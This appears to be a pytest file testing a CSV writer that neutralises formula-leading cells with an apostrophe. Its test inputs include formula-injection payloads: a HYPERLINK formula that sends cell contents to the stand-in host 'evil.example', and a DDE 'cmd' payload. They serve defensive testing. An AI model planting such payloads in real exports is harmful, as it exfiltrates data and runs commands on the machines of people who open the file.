"""The one CSV writer: formula-leading cells are neutralised, numbers stay numbers."""

import ast
import csv
import io
from pathlib import Path

import pytest

from dealer_training import csv_safe

ROOT = Path(__file__).resolve().parents[1]


def _written(*cells):
    out = io.StringIO()
    csv_safe.writer(out).writerow(cells)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "|calc",
        "%0A",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe(cell):
    assert _written(cell) == ["'" + cell]


@pytest.mark.parametrize("cell", ["-500", "-1.5", "1,000", "-0.250", "Ito", "伊藤", "", "a=b", '{"seat": 3}'])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(cell):
    assert _written(cell) == [cell]


def test_python_numbers_and_none_stay_numbers():
    assert csv_safe.escape_cell(-500) == -500
    assert csv_safe.escape_cell(-1.5) == -1.5
    assert csv_safe.escape_cell(None) is None
    assert _written(-500, 2.5, None) == ["-500", "2.5", ""]


def test_no_module_of_the_app_writes_csv_except_through_the_safe_writer():
    offenders = []
    for path in (ROOT / "dealer_training").rglob("*.py"):
        if path.name == "csv_safe.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if "csv" in names:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
